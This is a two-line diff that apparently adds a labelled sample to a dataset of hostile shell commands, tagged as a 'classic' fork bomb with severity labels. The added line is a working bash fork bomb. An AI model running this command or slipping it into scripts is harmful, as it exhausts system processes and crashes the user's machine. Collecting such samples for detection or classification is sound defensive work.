@@ -1,0 +1,2 @@
+# class: fork bomb; possible: low medium high; style: classic
+b() { b | b & }; b; sleep 15
